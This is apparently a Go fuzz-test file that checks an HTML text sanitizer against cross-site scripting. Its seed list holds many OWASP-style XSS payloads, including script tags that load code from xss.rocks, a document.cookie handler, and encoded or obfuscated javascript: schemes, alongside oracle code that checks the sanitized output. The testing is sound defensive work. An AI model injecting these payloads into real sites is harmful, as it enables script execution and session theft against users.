package limits

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// xssVectors seeds FuzzSanitizeText: filter-evasion strings in the style of
// the OWASP XSS cheat sheet, entity-encoded and split schemes, look-alike
// brackets, break-outs from quoted attributes, invisible characters, invalid
// UTF-8 and NUL bytes, and some innocent text that must stay as it is.
var xssVectors = []string{
	// Tags and event handlers.
	"<script>alert(1)</script>",
	"<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
	"<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
	"<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
	"<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<IMG SRC=\"javascript:alert('XSS');\">",
	"<IMG SRC=javascript:alert('XSS')>",
	"<IMG SRC=JaVaScRiPt:alert('XSS')>",
	"<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	"<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
	"<IMG SRC=# onmouseover=\"alert('xxs')\">",
	"<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
	"<img src=x onerror=alert(1)//",
	"<img src=x:alert(alt) onerror=eval(src) alt=0>",
	"<svg/onload=alert('XSS')>",
	"<svg><script>alert&#40;1&#41;</script>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
	"<x onclick=alert(1)>click",
	"<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
	"<iframe src=http://xss.rocks/scriptlet.html <",
	"<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
	"<BODY BACKGROUND=\"javascript:alert('XSS')\">",
	"<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
	"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
	"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
	"<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
	"<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
	"<DIV STYLE=\"width: expression(alert('XSS'));\">",
	"<BASE HREF=\"javascript:alert('XSS');//\">",
	"<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
	"<BR SIZE=\"&{alert('XSS')}\">",
	"<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>",
	"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
	// Comments, processing instructions, doctype, CDATA.
	"<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
	"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
	"<!-->", "<!--->", "--!>", "<!", "<?", "</", "</x", "< /x>",
	"<?xml version=\"1.0\"?><x:script>alert(1)</x:script>",
	"<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<!DOCTYPE html><script>alert(1)</script>",
	// Breaking out of the surrounding markup.
	"\"><img src=x onerror=alert(1)>",
	"'><img src=x onerror=alert(1)>",
	"\" onmouseover=\"alert(1)",
	"' onfocus='alert(1)' autofocus='",
	"` onmouseover=alert(1) `",
	"</div><script>alert(1)</script>",
	"</a><a href=javascript:alert(1)>",
	"\\\";alert('XSS');//",
	"</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
	"`${alert(1)}`",
	"<img src=`x` onerror=`alert(1)`>",
	// Character references.
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&amp;lt;script&amp;gt;",
	"&#60;script&#62;", "&#x3c;script&#x3e;", "&#X3C;", "&LT;script&GT;", "&ltscript&gt",
	"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
	"<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116>",
	"<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
	"javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)",
	"javascript&#0000058alert(1)", "javascript&#x3Aalert(1)",
	"&#106;avascript:alert(1)", "&#x6a;avascript:alert(1)",
	"java&#x09;script:alert(1)", "java&Tab;script:alert(1)", "jav&#x0A;ascript:alert(1)",
	"java&NewLine;script:alert(1)", "java&#13;script:alert(1)", "java&#x0D;script:alert(1)",
	"<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
	"<a href=\"jAvAsCrIpT&colon;alert&lpar;1&rpar;\">X</a>",
	"<a href=\"&#1;javascript:alert(1)\">", "<a href=\"javascript&#9;:alert(1)\">",
	"&", "&amp", "&#", "&#x", "&#58", "&#x3A", "&&&;;;",
	// Schemes, split, cased, padded.
	"javascript:alert(1)", "JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)",
	"java\tscript:alert(1)", "jav\tascript:alert(1)", "java\nscript:alert(1)",
	"java\rscript:alert(1)", "java\r\nscript:alert(1)", "javascript\t:alert(1)",
	"  javascript:alert(1)", "\x01\x02javascript:alert(1)", "\x00javascript:alert(1)",
	"java\x00script:alert(1)", "x\tjavascript:alert(1)", "x\tjava\nscript:alert(1)",
	"vbscript:msgbox(\"XSS\")", "VBScript:MsgBox(1)", "livescript:alert(1)",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"data:text/html,<script>alert(1)</script>", "DATA:text/html,x",
	"data:image/svg+xml,<svg onload=alert(1)>", " data:,x", "(data:x)",
	"javascript:javascript:alert(1)", "javascriptjavascript::", "data:data:",
	":javascript:", "javascript::", "javascript\u2236alert(1)",
	"x-javascript:", "a.data:", "_vbscript:", "1data:",
	// Invisible characters splitting a scheme.
	"java\u200Bscript:alert(1)", "java\u200Cscript:alert(1)", "java\u200Dscript:alert(1)",
	"java\u2060script:alert(1)", "javascript\u2060:alert(1)", "\u200Bjavascript:alert(1)",
	"java\u202Escript:alert(1)", "\u202Ejavascript:alert(1)", "java\u2066script:alert(1)",
	"java\uFEFFscript:alert(1)", "d\u00AData:text/html,x", "vb\u061Cscript:x",
	"java\u0085script:alert(1)", "java\u180Escript:alert(1)", "meta\u200Bdata: x",
	"\u202Egnp.exe", "abc\u202Efed\u202C", "\u2067x\u2069",
	"\u2065", // reserved, default ignorable: found by the fuzzer, the oracle had missed it
	everyRemovedCharacter("java", "script:alert(1)"),
	// Look-alike brackets and colons.
	"\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "\uFE64script\uFE65",
	"\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54\uFF1Aalert(1)",
	"javascript\uFF1Aalert(1)", "javascript\uFE55alert(1)",
	// Invalid UTF-8, overlong encodings, surrogates.
	"\xff\xfe<script>", "java\xc0script:alert(1)", "\xc0\xbcscript\xc0\xbe",
	"\xe0\x80\xbc", "\xed\xa0\x80", "java\xffscript:", "\xffjavascript:alert(1)",
	"\xf4\x90\x80\x80", "\xc2", "\xe2\x80",
	// Innocent text.
	"", "hello", "metadata: x", "time: 10:30", "mailto:a@b.example",
	"http://example.com/?q=<x>&y=\"z\"", "héllo 你好 🎉", "👨\u200D👩\u200D👧",
	"\u2028\u2029", "a\tb\nc\r\nd",
}

// removedBySanitizer restates, independently of sanitize.go, the characters
// SanitizeText's doc comment promises never to output.
func removedBySanitizer(r rune) bool {
	switch {
	case unicode.Is(unicode.Cc, r):
		return r != '\t' && r != '\n' && r != '\r'
	case unicode.Is(unicode.Bidi_Control, r), unicode.Is(unicode.Join_Control, r):
		return true
	}
	switch r {
	case 0x00AD, 0x180E, 0x200B, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x2065, 0xFEFF:
		return true
	}
	return false
}

// everyRemovedCharacter joins a and b with every character SanitizeText
// promises to remove, so the seeds alone check each of them.
func everyRemovedCharacter(a, b string) string {
	var sb strings.Builder
	sb.WriteString(a)
	for r := rune(0); r <= 0xFFFF; r++ {
		if removedBySanitizer(r) {
			sb.WriteRune(r)
		}
	}
	sb.WriteString(b)
	return sb.String()
}

// sanitizerReferences are the only character references SanitizeText
// writes.
var sanitizerReferences = []string{"&amp;", "&lt;", "&gt;", "&quot;", "&#39;", "&#96;"}

// xssProblems lists how s, inserted into a page, could run something or
// leave the place it was put in, each prefixed with the context:
//
//	text:  <div>s</div> must be one start tag, character data, one end tag;
//	attr": <a title="s"> and <a href="s"> must be that one tag with that one
//	attr': attribute, whose value is the same text as in the div;
//	href:  the decoded href must have no javascript:, vbscript: or data:
//	       scheme;
//	link:  nor may a linkifier find one in the text a reader sees;
//	chars: s must be valid UTF-8 with no raw < > " ' ` or look-alike
//	       bracket, no '&' but in SanitizeText's own references, and no
//	       character SanitizeText promises to remove.
//
// It returns the decoded text too.
func xssProblems(s string) (text string, problems []string) {
	add := func(format string, args ...any) { problems = append(problems, fmt.Sprintf(format, args...)) }

	toks := tokenizeHTML("<div>" + s + "</div>")
	n := len(toks)
	switch {
	case n < 2 || n > 3 ||
		toks[0].kind != startTagToken || toks[0].data != "div" || len(toks[0].attrs) != 0 ||
		toks[n-1].kind != endTagToken || toks[n-1].data != "div" || len(toks[n-1].attrs) != 0 ||
		n == 3 && toks[1].kind != textToken:
		add("text: <div>…</div> tokenizes as %+v", toks)
	case n == 3:
		text = toks[1].data
	}

	for _, q := range []string{`"`, `'`} {
		for _, name := range []string{"title", "href"} {
			toks := tokenizeHTML("<a " + name + "=" + q + s + q + ">")
			if len(toks) != 1 || toks[0].kind != startTagToken || toks[0].data != "a" || toks[0].selfClosing ||
				len(toks[0].attrs) != 1 || toks[0].attrs[0].name != name {
				add("attr%s: <a %s=%s…%s> tokenizes as %+v", q, name, q, q, toks)
				continue
			}
			v := toks[0].attrs[0].value
			if v != text {
				add("attr%s: %s value %q is not the text %q", q, name, v, text)
			}
			if name == "href" {
				if sch := hrefScheme(v); sch != "" {
					add("href: %q has a live %s: scheme", v, sch)
				}
			}
		}
	}

	if sch := linkScheme(text); sch != "" {
		add("link: text %q has a live %s: scheme", text, sch)
	}

	if !utf8.ValidString(s) {
		add("chars: invalid UTF-8 in %q", s)
	}
	for i, r := range s {
		switch {
		case removedBySanitizer(r):
			add("chars: %U at byte %d", r, i)
		case strings.ContainsRune("<>\"'`\uFF1C\uFF1E\uFE64\uFE65", r):
			add("chars: raw %q at byte %d", r, i)
		case r == '&':
			ok := false
			for _, ref := range sanitizerReferences {
				ok = ok || strings.HasPrefix(s[i:], ref)
			}
			if !ok {
				add("chars: '&' at byte %d starts no reference of SanitizeText", i)
			}
		}
	}
	return text, problems
}

// faithfulnessProblems checks that the text a reader sees is the input with
// only the promised changes: removed characters gone, invalid UTF-8 as
// U+FFFD, look-alike brackets as < and >, and colons neutralised exactly
// where a live scheme would end otherwise.
func faithfulnessProblems(in, text string) []string {
	var want []rune
	for _, r := range in {
		switch {
		case removedBySanitizer(r):
			continue
		case r == '\uFF1C' || r == '\uFE64':
			r = '<'
		case r == '\uFF1E' || r == '\uFE65':
			r = '>'
		}
		want = append(want, r)
	}
	// The tokenizer turns CR LF and CR into LF.
	ws := strings.ReplaceAll(strings.ReplaceAll(string(want), "\r\n", "\n"), "\r", "\n")
	wr, tr := []rune(ws), []rune(text)
	bad := []string{fmt.Sprintf("faithful: text %q, want %q with only colons neutralised", text, ws)}
	if len(wr) != len(tr) {
		return bad
	}
	// The text with every neutralised colon restored, and the colons in it
	// that end a live scheme. Whether a colon ends one does not depend on
	// the colons before it: ':' and U+2236 are both a boundary, and neither
	// can be inside a scheme.
	restored := make([]rune, len(tr))
	for k := range tr {
		switch {
		case wr[k] == tr[k]:
		case wr[k] == ':' && tr[k] == '\u2236':
		default:
			return bad
		}
		restored[k] = wr[k]
	}
	live := liveColons(restored)
	var problems []string
	for k := range tr {
		switch {
		case tr[k] == ':' && live[k]:
			problems = append(problems, fmt.Sprintf("faithful: colon at rune %d of %q left live", k, text))
		case tr[k] != wr[k] && !live[k]:
			problems = append(problems, fmt.Sprintf("faithful: colon at rune %d of %q neutralised needlessly", k, text))
		}
	}
	return problems
}

// liveColons returns the indexes of the colons in text that end a
// javascript:, vbscript: or data: scheme where liveScheme looks for one: as
// an href after the URL parser's preprocessing, and at every boundary where
// a linkifier could start, as written and with tabs and newlines deleted.
func liveColons(text []rune) map[int]bool {
	live := map[int]bool{}
	// view lists the indexes of the runes of text a reader sees.
	scan := func(view []int, onlyAtStart bool) {
		for i := range view {
			if onlyAtStart && i > 0 {
				return
			}
			if i > 0 && text[view[i-1]] < utf8.RuneSelf && isASCIIAlnum(byte(text[view[i-1]])) {
				continue
			}
			for _, name := range dangerousSchemes {
				if len(view)-i <= len(name) || text[view[i+len(name)]] != ':' {
					continue
				}
				match := true
				for k := 0; k < len(name) && match; k++ {
					r := text[view[i+k]]
					match = r < utf8.RuneSelf && isASCIIAlpha(byte(r)) && byte(r)|0x20 == name[k]
				}
				if match {
					live[view[i+len(name)]] = true
				}
			}
		}
	}
	var asWritten, deleted, href []int
	leading := true
	for k, r := range text {
		asWritten = append(asWritten, k)
		tabOrNewline := r == '\t' || r == '\n' || r == '\r'
		if !tabOrNewline {
			deleted = append(deleted, k)
		}
		if leading = leading && r <= ' '; !leading && !tabOrNewline {
			href = append(href, k)
		}
	}
	scan(asWritten, false)
	scan(deleted, false)
	scan(href, true)
	return live
}

// checkSanitizeText runs every property on one input.
func checkSanitizeText(t *testing.T, in string) {
	t.Helper()
	out := SanitizeText(in)
	text, problems := xssProblems(out)
	problems = append(problems, faithfulnessProblems(in, text)...)

	// Sanitizing again re-introduces nothing...
	again := SanitizeText(out)
	if _, p := xssProblems(again); len(p) > 0 {
		problems = append(problems, fmt.Sprintf("twice: SanitizeText(%q) = %q: %v", out, again, p))
	}
	// ...and the text a reader sees (and might paste back) is a fixed point:
	// sanitizing it shows the reader the same text.
	if back, _ := xssProblems(SanitizeText(text)); back != text {
		problems = append(problems, fmt.Sprintf("fixed point: text %q comes back as %q", text, back))
	}
	// The fast path: unchanged output means the input needed nothing.
	if out == in && (len(problems) > 0 || strings.ContainsAny(in, "&<>\"'`")) {
		problems = append(problems, "fast path: returned unchanged")
	}
	for _, p := range problems {
		t.Errorf("SanitizeText(%q) = %q: %s", in, out, p)
	}
}

func FuzzSanitizeText(f *testing.F) {
	for _, v := range xssVectors {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, in string) {
		checkSanitizeText(t, in)
		// The two oracles for live schemes agree, on hostile input too.
		if a, b := liveScheme(in) != "", len(liveColons([]rune(in))) > 0; a != b {
			t.Errorf("%q: liveScheme says %v, liveColons %v", in, a, b)
		}
	})
}

// The oracle must be able to fail: raw vectors, not sanitized, break the
// property each is aimed at.
func TestXSSOracleRejectsRawVectors(t *testing.T) {
	for _, tc := range []struct{ raw, context string }{
		{"<script>alert(1)</script>", "text:"},
		{"x<!--y", "text:"},
		{"<?x>", "text:"},
		{"</b>", "text:"},
		{"</ b>", "text:"},
		{"<svg/onload=alert(1)>", "text:"},
		{"\" onmouseover=\"alert(1)", "attr\":"},
		{"\"><img src=x onerror=alert(1)>", "attr\":"},
		{"' onfocus='alert(1)", "attr':"},
		{"javascript:alert(1)", "href:"},
		{"  JavaScript:alert(1)", "href:"},
		{"javascript&#58;alert(1)", "href:"},
		{"javascript&colon;alert(1)", "href:"},
		{"javascript&#0000058alert(1)", "href:"},
		{"java&#x09;script:alert(1)", "href:"},
		{"jav&#x0A;ascript:alert(1)", "href:"},
		{"&#106;avascript:alert(1)", "href:"},
		{" &#14; javascript:alert(1)", "href:"},
		{"data:text/html,x", "href:"},
		{"vbscript:x", "href:"},
		{"see javascript:alert(1)", "link:"},
		{"javascript:alert(1)", "link:"},
		{"see (data:text/html,x)", "link:"},
		{"x\tjavascript:alert(1)", "link:"},
		{"java\u200Bscript:alert(1)", "chars:"},
		{"\xff", "chars:"},
		{"\uFF1Cscript\uFF1E", "chars:"},
		{"a & b", "chars:"},
	} {
		_, problems := xssProblems(tc.raw)
		found := false
		for _, p := range problems {
			found = found || strings.HasPrefix(p, tc.context)
		}
		if !found {
			t.Errorf("raw %q: no %s problem, got %q", tc.raw, tc.context, problems)
		}
	}
	for _, ok := range []string{"", "hello", "a &amp; b &lt;i&gt; &#39;&#96;&quot;", "metadata: x", "java script:x", "javascript\u2236x"} {
		if _, problems := xssProblems(ok); len(problems) > 0 {
			t.Errorf("%q: %q", ok, problems)
		}
	}
}
